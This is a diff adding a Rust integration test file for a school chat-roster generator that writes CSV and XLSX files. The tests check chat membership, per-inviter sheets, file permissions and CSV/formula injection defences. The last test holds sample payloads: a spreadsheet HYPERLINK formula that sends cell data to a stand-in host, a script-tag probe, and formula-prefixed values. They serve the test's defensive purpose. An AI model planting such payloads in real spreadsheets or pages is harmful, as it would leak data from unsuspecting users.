@@ -1,0 +1,178 @@
+//! Invite rosters (issue 5, part 2): read back the CSV and XLSX files a build writes for the
+//! invented school and check them against its people lists; hostile values stay text.
+
+mod common;
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::Path;
+
+use calamine::{open_workbook, Data, Reader, Xlsx};
+use common::*;
+
+/// The rows of a roster CSV (`;`-separated, after the BOM), header first.
+fn read_csv(path: &Path) -> Vec<Vec<String>> {
+    let bytes = std::fs::read(path).unwrap();
+    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "{}: no UTF-8 BOM", path.display());
+    let mut reader = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(&bytes[3..]);
+    reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
+}
+
+/// The raw people list of a group: (id, role, council) per row, read without sferum-gen.
+fn people(group: &str) -> Vec<(String, String, bool)> {
+    let path = root().join("policies/school-max/people").join(format!("{group}.csv"));
+    let mut reader = csv::ReaderBuilder::new().comment(Some(b'#')).from_path(path).unwrap();
+    reader.records().map(|r| r.unwrap()).map(|r| (r[0].to_string(), r[1].to_string(), &r[8] == "yes")).collect()
+}
+
+fn ids_of(list: &[(String, String, bool)], role: &str, council_only: bool) -> BTreeSet<String> {
+    list.iter().filter(|(_, r, c)| r == role && (!council_only || *c)).map(|(id, ..)| id.clone()).collect()
+}
+
+fn build_school() -> tempfile::TempDir {
+    let out = tempfile::tempdir().unwrap();
+    let o = run(&["build", "policies", "--only", "school-max", "--out", out.path().to_str().unwrap()]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    out
+}
+
+#[test]
+fn each_chat_roster_lists_everyone_it_should_once() {
+    let out = build_school();
+    let rosters = out.path().join("school-max/restricted/rosters");
+    let (a3, b7) = (people("3a"), people("7b"));
+    assert!(a3.len() + b7.len() >= 40, "the example has at least 40 people");
+    let staff = |ids: &[&str]| ids.iter().map(|s| s.to_string()).collect::<BTreeSet<_>>();
+    let mut expected: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
+    expected.insert("3a-students", ids_of(&a3, "student", false));
+    expected.insert("3a-parents", ids_of(&a3, "parent", false));
+    expected.insert("3a-subject-admin", ids_of(&a3, "student", false));
+    expected.insert("7b-students", ids_of(&b7, "student", false));
+    expected.insert("7b-parents", ids_of(&b7, "parent", false));
+    expected.insert("7b-subject-admin", ids_of(&b7, "student", false));
+    expected.insert("7b-subject-class-teacher", ids_of(&b7, "student", false));
+    // The admin invites every other member of staff into the teachers' unit.
+    expected.insert("teachers-unit", staff(&["head", "deputy", "class-teacher", "psychologist"]));
+    expected.insert("head-deputies", staff(&["deputy"]));
+    expected.insert("head-teachers", staff(&["admin", "class-teacher", "psychologist"]));
+    expected.insert("head-class-teachers", staff(&["class-teacher", "admin"]));
+    let mut council: BTreeSet<String> = ids_of(&a3, "parent", true);
+    council.extend(ids_of(&b7, "parent", true));
+    expected.insert("head-parents", council);
+    let mut council: BTreeSet<String> = ids_of(&a3, "student", true);
+    council.extend(ids_of(&b7, "student", true));
+    expected.insert("head-students", council);
+
+    let files: BTreeSet<String> = std::fs::read_dir(rosters.join("chats")).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    let wanted: BTreeSet<String> = expected.keys().map(|k| format!("{k}.csv")).collect();
+    assert_eq!(files, wanted, "one roster per chat");
+    for (chat, ids) in &expected {
+        let rows = read_csv(&rosters.join("chats").join(format!("{chat}.csv")));
+        assert_eq!(rows[0][..6], ["Чат (id)", "Чат", "Кто приглашает", "Роль на платформе", "ID", "Фамилия"]);
+        let listed: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
+        let unique: BTreeSet<String> = listed.iter().map(|s| s.to_string()).collect();
+        assert_eq!(unique.len(), listed.len(), "{chat}: someone is listed twice: {listed:?}");
+        assert_eq!(&unique, ids, "{chat}");
+        assert!(rows[1..].iter().all(|r| r[0] == *chat), "{chat}: the chat column");
+        assert!(!ids.is_empty(), "{chat}: empty roster");
+    }
+    assert_eq!(expected["3a-parents"].len(), 14);
+    assert_eq!(expected["7b-students"].len(), 10);
+
+    // A parent's row: the platform role, the normalised phone, the child by name.
+    let parents = read_csv(&rosters.join("chats/3a-parents.csv"));
+    let p02 = parents.iter().find(|r| r[4] == "3a-p02").unwrap();
+    assert_eq!(p02[3], "родитель (законный представитель)");
+    assert_eq!(p02[9], "+79000000102", "8 (900) 000-01-02 normalised");
+    assert_eq!(p02[11], "Борисов Максим Олегович");
+    assert_eq!(p02[8], "3 «А»");
+    assert_eq!(p02[2], "Ким Е.С.", "the curator invites the parents");
+}
+
+#[test]
+fn each_inviter_gets_a_csv_and_a_sheet_with_their_chats() {
+    let out = build_school();
+    let rosters = out.path().join("school-max/restricted/rosters");
+    let chat_rows = |chats: &[&str]| -> Vec<Vec<String>> {
+        chats.iter().flat_map(|c| read_csv(&rosters.join("chats").join(format!("{c}.csv"))).into_iter().skip(1)).collect()
+    };
+    let inviters = [
+        ("admin", "Соколова Д.В.", vec!["teachers-unit", "3a-subject-admin", "7b-students", "7b-parents", "7b-subject-admin"]),
+        ("head", "Петренко М.О.", vec!["head-deputies", "head-teachers", "head-class-teachers", "head-parents", "head-students"]),
+        ("class-teacher", "Ким Е.С.", vec!["3a-students", "3a-parents", "7b-subject-class-teacher"]),
+    ];
+    let mut workbook: Xlsx<_> = open_workbook(rosters.join("rosters.xlsx")).unwrap();
+    let sheets = workbook.sheet_names();
+    assert_eq!(sheets.len(), 3, "{sheets:?}");
+    for (id, name, chats) in &inviters {
+        let csv_rows = read_csv(&rosters.join("inviters").join(format!("{id}.csv")));
+        let mut expected = chat_rows(chats);
+        let mut got = csv_rows[1..].to_vec();
+        expected.sort();
+        got.sort();
+        assert_eq!(got, expected, "{id}: the inviter's CSV is the union of their chats' rosters");
+        assert!(got.iter().all(|r| r[2] == *name), "{id}");
+
+        assert!(sheets.contains(&name.to_string()), "no sheet `{name}` in {sheets:?}");
+        let range = workbook.worksheet_range(name).unwrap();
+        let mut sheet: Vec<Vec<String>> = range.rows().map(|r| r.iter().map(|c| match c { Data::String(s) => s.clone(), Data::Empty => String::new(), other => other.to_string() }).collect()).collect();
+        assert_eq!(sheet[0], csv_rows[0], "{name}: header");
+        let mut body = sheet.split_off(1);
+        body.sort();
+        assert_eq!(body, got, "{name}: the sheet holds the same rows as the CSV");
+    }
+    assert_eq!(chat_rows(&inviters[0].2).len(), 4 + 12 + 10 + 12 + 10);
+}
+
+#[cfg(unix)]
+#[test]
+fn roster_files_are_owner_only() {
+    use std::os::unix::fs::PermissionsExt;
+    let out = build_school();
+    for e in walkdir::WalkDir::new(out.path().join("school-max/restricted/rosters")).into_iter().filter_map(Result::ok) {
+        let mode = e.metadata().unwrap().permissions().mode() & 0o777;
+        if e.file_type().is_file() {
+            assert_eq!(mode, 0o600, "{}", e.path().display());
+        }
+    }
+    let mode = std::fs::metadata(out.path().join("school-max/restricted")).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o700);
+}
+
+/// Formulas, Markdown and HTML in a people list come out as plain text in CSV and XLSX.
+#[test]
+fn hostile_values_in_a_people_list_stay_text() {
+    const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?"&A1,"Открыть")"#;
+    const MARKUP: &str = r#"*Ив* <script>alert(1)</script> #panic("x")"#;
+    let tmp = tempfile::tempdir().unwrap();
+    let policies = tmp.path().join("policies");
+    copy_tree(&root().join("tests/fixtures/valid"), &policies);
+    let list = format!(
+        "id,role,surname,name,patronymic,child,phone,email,council\ns1,student,\"{}\",@SUM(1),-2+3,,,,\np1,parent,\"{}\",Ольга,,s1,+7 900 000-10-02,,\n",
+        FORMULA.replace('"', "\"\""),
+        MARKUP.replace('"', "\"\"")
+    );
+    std::fs::write(policies.join("demo/people/5a.csv"), list).unwrap();
+    let out = tmp.path().join("out");
+    let o = run(&["build", policies.to_str().unwrap(), "--out", out.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let rosters = out.join("demo/restricted/rosters");
+
+    let rows = read_csv(&rosters.join("chats/5a-students.csv"));
+    assert_eq!(rows[1][5], format!("'{FORMULA}"), "a formula gets a leading apostrophe in CSV");
+    assert_eq!(rows[1][6], "'@SUM(1)");
+    assert_eq!(rows[1][7], "'-2+3");
+    let parents = read_csv(&rosters.join("chats/5a-parents.csv"));
+    assert_eq!(parents[1][5], MARKUP);
+    assert_eq!(parents[1][11], format!("'{FORMULA} @SUM(1) -2+3"), "the child's name, inert too");
+
+    let mut workbook: Xlsx<_> = open_workbook(rosters.join("rosters.xlsx")).unwrap();
+    for name in workbook.sheet_names() {
+        let formulas = workbook.worksheet_formula(&name).unwrap();
+        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{name}: a cell holds a formula");
+    }
+    let name = workbook.sheet_names().into_iter().find(|n| n.starts_with("Петров")).unwrap();
+    let range = workbook.worksheet_range(&name).unwrap();
+    let cells: Vec<String> = range.used_cells().map(|(_, _, c)| c.to_string()).collect();
+    assert!(cells.contains(&FORMULA.to_string()), "the XLSX keeps the text as it is: {cells:?}");
+    assert!(cells.contains(&MARKUP.to_string()));
+}
